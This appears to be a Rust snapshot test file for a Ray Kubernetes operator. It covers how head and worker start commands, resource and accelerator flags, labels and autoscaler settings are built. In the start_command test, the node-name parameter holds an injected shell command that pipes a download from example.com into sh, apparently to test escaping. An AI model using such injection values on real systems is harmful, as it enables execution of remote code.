//! What the Ray container runs, and with which parameters.

use crate::common::{args, cluster, config, env, first_worker, head, head_with, ray, snapshot, value};
use ray_operator::plan::build::{self, Identity, head_service};
use ray_operator::plan::config::PlanConfig;
use serde_json::{Value, json};

#[test]
fn start_command() {
    let given = r#"
metadata: {name: c}
spec:
  headGroupSpec:
    rayStartParams:
      port: '6380'
      dashboard-host: '127.0.0.1'
      block: 'false'
      log-color: 'false'
      include-dashboard: 'true'
      ray-debugger-external: 'True'
      disable-usage-stats: 'false'
      redis-password: $REDIS_PASSWORD
      resources: '"{\"Disk\": 1}"'
      system-config: |
        '{"a": 1}'
      temp-dir: /tmp/my dir
      node-name: head; curl example.com | sh
    template: {spec: {containers: [{name: ray}]}}
  workerGroupSpecs:
  - groupName: w
    rayStartParams: {address: 'elsewhere:1', metrics-export-port: '9090', dashboard-agent-listen-port: '52366'}
    template: {spec: {containers: [{name: ray}]}}
"#;
    let c = cluster(given);
    let w = first_worker(&c);
    snapshot(
        "start_command",
        given,
        &json!({"head": args(&head(&c)), "worker": args(&w), "worker ports": ray(&w)["ports"]}),
    );
}

#[test]
fn amounts_come_from_the_container() {
    let given = "
metadata: {name: c}
spec:
  headGroupSpec:
    rayStartParams: {num-cpus: '0'}
    template: {spec: {containers: [{name: ray, resources: {limits: {cpu: 1500m, memory: 1Gi}}}]}}
  workerGroupSpecs:
  - groupName: requests-only
    template: {spec: {containers: [{name: ray, resources: {requests: {cpu: 1500m, memory: 1Gi, nvidia.com/gpu: 1}}}]}}
";
    let c = cluster(given);
    let w = first_worker(&c);
    let made = json!({
        "head": args(&head(&c)), "worker": args(&w), "worker volumes": w["spec"]["volumes"], "worker mounts": ray(&w)["volumeMounts"]
    });
    snapshot("amounts", given, &made);
}

#[test]
fn accelerators() {
    let mut made = serde_json::Map::new();
    for (case, params, limits) in [
        ("GPU", "{}", "{nvidia.com/gpu: 2, memory: 1Gi}"),
        ("slice of a GPU", "{}", "{nvidia.com/mig-1g.5gb: 3}"),
        ("number of GPUs given", "{num-gpus: '0'}", "{nvidia.com/gpu: 2}"),
        ("TPU", "{}", "{google.com/tpu: 4}"),
        ("Neuron", "{}", "{aws.amazon.com/neuroncore: 8}"),
        ("Neuron before TPU, and a GPU", "{}", "{aws.amazon.com/neuroncore: 8, google.com/tpu: 4, amd.com/gpu: 3}"),
        ("TPU beside own resources", r#"{resources: '{"Disk": 0.5}'}"#, "{google.com/tpu: 4}"),
        (
            "TPU beside escaped resources",
            r#"{resources: '"{\"Disk\": 0.5}"'}"#,
            "{google.com/tpu: 4, nvidia.com/gpu: 1}",
        ),
        ("TPU given", r#"{resources: '"{\"TPU\": 1}"'}"#, "{google.com/tpu: 4}"),
        ("unreadable resources", "{resources: $RESOURCES}", "{google.com/tpu: 4, nvidia.com/gpu: 1}"),
    ] {
        let c = cluster(&format!(
            "
metadata: {{name: c}}
spec:
  headGroupSpec:
    rayStartParams: {params}
    template: {{spec: {{containers: [{{name: ray, resources: {{limits: {limits}}}}}]}}}}
"
        ));
        let built = build::head_pod(&c, Identity::default(), &config());
        let pod = value(built);
        let flags: Vec<&str> = args(&pod)[0]
            .as_str()
            .unwrap()
            .split("  ")
            .filter(|f| f.contains("gpus") || f.contains("resources"))
            .collect();
        made.insert(
            case.to_owned(),
            json!({"params": params, "limits": limits, "flags": flags, "remarks": pod["remarks"]}),
        );
    }
    snapshot("accelerators", "{}", &Value::Object(made));
}

#[test]
fn resources_and_labels_of_a_group() {
    let given = "
metadata: {name: c}
spec:
  headGroupSpec:
    resources: {CPU: 500m, memory: 2Gi, nvidia.com/gpu: '1', Disk: 500m, it's: '1', broken: many}
    labels: {zone: a, ray.io/group: mine, app.kubernetes.io/name: shop}
    rayStartParams: {num-cpus: '9'}
    template:
      metadata: {labels: {zone: b, team: t}}
      spec: {containers: [{name: ray, resources: {limits: {cpu: 4, memory: 8Gi}}}]}
";
    let c = cluster(given);
    let pod = head(&c);
    let service = json!(head_service(&c, &config()));
    let made = json!({
        "args": args(&pod), "labels": pod["metadata"]["labels"],
        "service": {"labels": service["metadata"]["labels"], "selector": service["spec"]["selector"]}
    });
    snapshot("group_resources_and_labels", given, &made);
}

#[test]
fn a_command_of_the_user_runs_first() {
    let given = "
metadata: {name: c}
spec:
  headGroupSpec:
    template: {spec: {containers: [{name: ray, command: [/bin/bash, -lc, --], args: [echo hi]}]}}
";
    let c = cluster(given);
    let pod = head(&c);
    let login = head_with(&c, &PlanConfig { login_shell: true, ..config() });
    let made =
        json!({"command": ray(&pod)["command"], "args": args(&pod), "under a login shell": ray(&login)["command"]});
    snapshot("user_command", given, &made);
}

#[test]
fn overwrite_container_cmd() {
    let given = "
metadata: {name: c, annotations: {ray.io/overwrite-container-cmd: 'True'}}
spec:
  headGroupSpec:
    template: {spec: {containers: [{name: ray, command: [/bin/bash, -c], args: [eval $KUBERAY_GEN_RAY_START_CMD]}]}}
";
    let pod = head(&cluster(given));
    let made = json!({
        "annotations": pod["metadata"]["annotations"], "command": ray(&pod)["command"], "args": args(&pod), "env": env(ray(&pod))
    });
    snapshot("overwrite_container_cmd", given, &made);
}

#[test]
fn ray_started_by_the_users_own_script() {
    let given = r#"
metadata: {name: own}
spec:
  headGroupSpec:
    template:
      spec:
        containers:
        - name: ray-head
          image: rayproject/ray:2.52.0
          command: ["/bin/bash", "-c"]
          args:
          - |
            ray start --head --port=6379 --dashboard-host=0.0.0.0 --dashboard-port=8265 --num-cpus=0 --disable-usage-stats --block &
            python3 -m http.server 8080 &
            wait
          ports: [{containerPort: 6379}, {containerPort: 8265}, {containerPort: 8080}]
  workerGroupSpecs:
  - groupName: cpu-workers
    replicas: 2
    minReplicas: 1
    maxReplicas: 4
    template:
      spec:
        containers:
        - name: ray-worker
          image: rayproject/ray:2.52.0
          command: ["/bin/bash", "-c"]
          args: ["ray start --address=$RAY_HEAD_ADDRESS --num-cpus=1 --num-gpus=0 & wait"]
"#;
    let c = cluster(given);
    snapshot("own_script_head", given, &head(&c));
    snapshot("own_script_worker", given, &first_worker(&c));
    snapshot("own_script_service", given, &json!(head_service(&c, &config()).spec));
}

#[test]
fn autoscaler_versions() {
    let mut made = serde_json::Map::new();
    for version in ["{}", "{version: v1}", "{version: v2}"] {
        let c = cluster(&format!(
            "
metadata: {{name: c}}
spec:
  enableInTreeAutoscaling: true
  autoscalerOptions: {version}
  headGroupSpec: {{template: {{spec: {{containers: [{{name: ray}}]}}}}}}
  workerGroupSpecs: [{{groupName: w, template: {{spec: {{containers: [{{name: ray}}]}}}}}}]
"
        ));
        let (h, w) = (head(&c), first_worker(&c));
        let variable = env(ray(&h)).into_iter().find(|e| e.starts_with("RAY_enable"));
        let made_of = json!({
            "variable": variable, "head restarts": h["spec"]["restartPolicy"], "workers restart": w["spec"]["restartPolicy"],
            "head": args(&h)
        });
        made.insert(version.to_owned(), made_of);
    }
    snapshot("autoscaler_versions", "{}", &Value::Object(made));
}
